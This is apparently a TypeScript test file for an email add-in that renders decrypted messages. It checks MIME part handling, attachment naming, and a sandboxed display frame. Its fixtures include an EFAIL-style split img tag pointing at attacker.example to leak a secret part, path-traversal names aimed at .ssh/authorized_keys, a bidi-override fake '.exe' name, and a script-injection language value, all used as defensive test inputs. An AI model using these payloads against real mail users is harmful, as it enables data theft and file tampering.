// The decrypted-message model: which parts are shown, how cid: images map, and attachment names.
import { parseMessage } from '../../../src/core/mime/index.js';
import { cidReferences, messageContentOf } from '../../../src/addin/read/content/message-content.js';
import { fileNameForSaving, formatSize } from '../../../src/addin/read/content/attachment-name.js';
import { openAsType } from '../../../src/addin/read/content/attachment-actions.js';
import { frameDocument, FRAME_CSP, FRAME_SANDBOX } from '../../../src/addin/read/content/frame-document.js';

const mime = (text: string) => parseMessage(new TextEncoder().encode(text.replace(/\n/g, '\r\n')));
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201c2a8f6d40000000049454e44ae426082', 'hex');

describe('part selection', () => {
  it('shows plain text as text, decoded from quoted-printable in its charset', () => {
    const c = messageContentOf(mime('Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable\n\nH=E4lsning <b>inte HTML</b>\n'));
    expect(c.bodies).toEqual([{ kind: 'text', text: 'Hälsning <b>inte HTML</b>\n' }]);
    expect(c.attachments).toEqual([]);
  });

  it('unflows format=flowed text', () => {
    const c = messageContentOf(mime('Content-Type: text/plain; charset=utf-8; format=flowed\n\nEn lång rad som \nfortsätter här.\n'));
    expect(c.bodies).toEqual([{ kind: 'text', text: 'En lång rad som fortsätter här.\n' }]);
  });

  it('prefers HTML in multipart/alternative, and falls back to text when there is none', () => {
    const alt = (second: string) =>
      mime(`Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nplain version\n--b\n${second}\n--b--\n`);
    const html = messageContentOf(alt('Content-Type: text/html\n\n<p>html version</p>'));
    expect(html.bodies).toEqual([{ kind: 'html', html: '<p>html version</p>' }]);
    const other = messageContentOf(alt('Content-Type: text/enriched\n\n<bold>x</bold>'));
    expect(other.bodies).toEqual([{ kind: 'text', text: 'plain version' }]);
    expect(other.attachments).toEqual([]); // the unused alternative is not an attachment
  });

  it('keeps the parts of multipart/mixed separate, in order, and never joins their HTML', () => {
    const c = messageContentOf(
      mime(
        'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="http://attacker.example/?\n' +
          '--b\nContent-Type: text/plain\n\nSECRET\n--b\nContent-Type: text/html\n\n">\n--b--\n',
      ),
    );
    expect(c.bodies).toEqual([
      { kind: 'html', html: '<img src="http://attacker.example/?' },
      { kind: 'text', text: 'SECRET' },
      { kind: 'html', html: '">' },
    ]);
  });

  it('takes the root of multipart/related by its start parameter and keeps its cid: images inline', () => {
    const c = messageContentOf(
      mime(
        'Content-Type: multipart/related; boundary=r; start="<root@x>"\n\n' +
          `--r\nContent-Type: image/png\nContent-ID: <logo@x>\nContent-Transfer-Encoding: base64\n\n${PNG.toString('base64')}\n` +
          '--r\nContent-Type: text/html\nContent-ID: <root@x>\n\n<img src="cid:logo%40x">\n--r--\n',
      ),
    );
    expect(c.bodies).toEqual([{ kind: 'html', html: '<img src="cid:logo%40x">' }]);
    expect(c.inlineImages).toHaveLength(1);
    expect(c.inlineImages[0]!.contentId).toBe('logo@x');
    expect(Buffer.from(c.inlineImages[0]!.bytes)).toEqual(PNG);
    expect(c.attachments).toEqual([]); // shown in the text, not listed again
  });

  it('picks related HTML inside alternative, and lists an inline image the HTML never uses', () => {
    const c = messageContentOf(
      mime(
        'Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/plain\n\ntext\n' +
          '--a\nContent-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\n<p>hi</p>\n' +
          `--r\nContent-Type: image/png\nContent-ID: <unused@x>\nContent-Transfer-Encoding: base64\n\n${PNG.toString('base64')}\n--r--\n--a--\n`,
      ),
    );
    expect(c.bodies).toEqual([{ kind: 'html', html: '<p>hi</p>' }]);
    expect(c.attachments.map((a) => [a.contentId, a.contentType, a.size])).toEqual([['unused@x', 'image/png', PNG.length]]);
  });

  it('treats a text part with a file name or attachment disposition as an attachment, not as body', () => {
    const c = messageContentOf(
      mime(
        'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nbody\n' +
          '--b\nContent-Type: text/html\nContent-Disposition: attachment; filename=page.html\n\n<script>x</script>\n--b--\n',
      ),
    );
    expect(c.bodies).toEqual([{ kind: 'text', text: 'body' }]);
    expect(c.attachments.map((a) => [a.name, a.contentType, a.size])).toEqual([['page.html', 'text/html', '<script>x</script>'.length]]);
  });

  it('shows the content of multipart/signed and not its signature part', () => {
    const c = messageContentOf(
      mime(
        'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=s\n\n--s\nContent-Type: text/plain\n\nsigned text\n' +
          '--s\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nAAAA\n--s--\n',
      ),
    );
    expect(c.bodies).toEqual([{ kind: 'text', text: 'signed text' }]);
    expect(c.attachments).toEqual([]);
  });

  it('lists an attached message under its subject', () => {
    const c = messageContentOf(
      mime('Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee below\n--b\nContent-Type: message/rfc822\n\nSubject: =?utf-8?q?M=C3=B6te?=\n\ninner\n--b--\n'),
    );
    expect(c.attachments.map((a) => [a.name, a.saveName, a.contentType])).toEqual([['Möte.eml', 'Möte.eml', 'message/rfc822']]);
  });
});

describe('cid references', () => {
  it('finds cid: URLs in HTML and %-decodes them (RFC 2392)', () => {
    expect(cidReferences('<img src="cid:a%40b"><img src=CID:plain.png> url(cid:c@d)')).toEqual(['a@b', 'plain.png', 'c@d']);
  });
});

describe('attachment names', () => {
  const attached = (headers: string) =>
    messageContentOf(mime(`Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\n${headers}\n\ndata\n--b--\n`)).attachments[0]!;

  it('decodes RFC 2231 continuations with charset', () => {
    const a = attached("Content-Type: application/pdf\nContent-Disposition: attachment;\n filename*0*=utf-8''Beslut%20om%20;\n filename*1*=%C3%A5tg%C3%A4rd.pdf");
    expect(a.name).toBe('Beslut om åtgärd.pdf');
    expect(a.saveName).toBe('Beslut om åtgärd.pdf');
    expect(a.size).toBe(4);
  });

  it('decodes RFC 2047 words in a name parameter (as Outlook writes them)', () => {
    const a = attached('Content-Type: application/pdf; name="=?iso-8859-1?Q?L=F6nebesked.pdf?="');
    expect(a.name).toBe('Lönebesked.pdf');
  });

  it('shows path-like names as written but never saves under a path', () => {
    const a = attached('Content-Type: text/plain\nContent-Disposition: attachment; filename="../../.ssh/authorized_keys"');
    expect(a.name).toBe('../../.ssh/authorized_keys');
    expect(a.saveName).toBe('authorized_keys');
    expect(fileNameForSaving('C:\\Windows\\system32\\evil.dll', 'application/octet-stream', 1)).toBe('evil.dll');
    expect(fileNameForSaving('..', 'application/pdf', 2)).toBe('bilaga-2.pdf');
    expect(fileNameForSaving('/etc/', 'text/plain', 3)).toBe('bilaga-3.txt');
  });

  it('removes control and bidi override characters and reserved names when saving', () => {
    expect(fileNameForSaving('faktura\u202Efdp.exe', 'application/pdf', 1)).toBe('fakturafdp.exe');
    expect(fileNameForSaving('a\u0000b\r\nc?.txt', 'text/plain', 1)).toBe('abc_.txt');
    expect(fileNameForSaving('CON.txt', 'text/plain', 1)).toBe('_CON.txt');
    expect(fileNameForSaving(`${'x'.repeat(300)}.pdf`, 'application/pdf', 1)).toBe(`${'x'.repeat(196)}.pdf`);
  });

  it('names an unnamed part by position and type', () => {
    const a = attached('Content-Type: application/pdf\nContent-Disposition: attachment');
    expect(a.name).toBeUndefined();
    expect(a.saveName).toBe('bilaga-1.pdf');
  });

  it('formats sizes per language', () => {
    expect(formatSize(512, 'sv')).toBe('512 B');
    expect(formatSize(2345678, 'sv')).toBe('2,3 MB');
    expect(formatSize(2345678, 'en')).toBe('2.3 MB');
    expect(formatSize(14_200, 'en')).toBe('14 kB');
  });

  it('opens only types that cannot script the add-in origin', () => {
    expect(openAsType({ contentType: 'application/pdf' })).toBe('application/pdf');
    expect(openAsType({ contentType: 'text/plain' })).toBe('text/plain;charset=utf-8');
    for (const t of ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/octet-stream']) {
      expect(openAsType({ contentType: t })).toBeUndefined();
    }
  });
});

describe('frame document', () => {
  it('starts with the CSP meta and forbids every remote source', () => {
    const doc = frameDocument('<style>p{}</style>', '<p>x</p>', 'sv');
    const head = doc.slice(doc.indexOf('<head>') + 6);
    expect(head.startsWith(`<meta http-equiv="Content-Security-Policy" content="${FRAME_CSP}">`)).toBe(true);
    expect(FRAME_CSP).toBe("default-src 'none'; img-src blob: data:; style-src 'unsafe-inline'");
    expect(FRAME_SANDBOX).toBe('');
    expect(frameDocument('', '', '"><script>')).toContain('lang="en"');
  });
});
